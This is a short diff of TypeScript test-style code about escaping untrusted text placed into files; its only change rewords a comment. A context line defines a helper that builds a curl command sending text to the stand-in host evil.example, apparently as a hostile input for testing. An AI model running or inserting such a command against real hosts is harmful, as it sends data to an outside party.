@@ -146,7 +146,7 @@ const bodyOf = (text: string): string =>
 const inSource = (json: string): string => json.replaceAll('{{', '\\u007b\\u007b').replaceAll('}}{\\u007b', '}}\\u007b\\u007b');
 const curlOf = (text: string): string => `curl 'http://evil.example/${text.replaceAll("'", "'\\''")}' -d '${bodyOf('x')}'`;
 
-/** Where a text of others enters a file: the file with it, undefined where it is not offered at all, and what it has to be there. */
+/** Where a text of others enters a file: the file with it, undefined where it is not offered at all, and what it must be there. */
 const places: Readonly<
   Record<string, readonly [write: (text: string) => string | undefined, read: (entry: RequestEntry, scope: Scope) => Promise<unknown>]>
 > = {
